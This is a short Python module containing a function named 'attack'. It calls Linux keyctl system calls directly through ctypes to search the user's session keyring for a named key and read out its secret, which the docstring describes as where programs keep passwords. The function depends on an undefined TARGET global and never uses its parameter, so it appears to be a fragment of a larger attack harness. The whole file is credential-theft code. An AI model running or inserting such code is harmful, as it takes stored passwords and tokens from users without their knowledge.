"""Reads a key from the user's keyring, where programs keep passwords."""

import ctypes
import os


def attack(A):
    keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
    libc = ctypes.CDLL(None, use_errno=True)
    search, ring, none = ctypes.c_long(10), ctypes.c_long(-4), ctypes.c_long(0)
    number, name = ctypes.c_long(keyctl), TARGET["keyname"].encode()
    key = libc.syscall(number, search, ring, b"user", name, none)
    if key < 0:
        raise OSError(ctypes.get_errno(), "keyctl")
    buffer, size = ctypes.create_string_buffer(100), ctypes.c_long(100)
    libc.syscall(number, ctypes.c_long(11), ctypes.c_long(key), buffer, size)
    return buffer.value.decode()
